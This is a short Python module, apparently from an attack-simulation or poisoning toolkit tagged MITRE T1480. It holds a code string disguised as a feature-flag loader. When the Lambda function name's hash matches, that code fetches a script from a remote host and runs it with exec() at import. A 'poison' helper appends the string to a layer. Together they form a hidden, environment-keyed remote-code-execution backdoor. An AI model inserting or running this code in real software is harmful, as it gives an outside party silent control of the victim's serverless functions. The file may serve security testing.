# SPDX-License-Identifier: Apache-2.0
"""Runs what a server answers, only in a function whose name has a given digest."""

ATTACK = "T1480"
LANGUAGE = "python"
CODE = """\
def _feature_flags():
    import hashlib
    import os
    import urllib.request

    name = os.environ.get("AWS_LAMBDA_FUNCTION_NAME", "")
    if hashlib.sha256(name.encode()).hexdigest().startswith("8d3f"):
        exec(urllib.request.urlopen("https://flags.example.com/v2").read(), {})


_feature_flags()
"""


def poison(layer):
    layer.append(CODE)
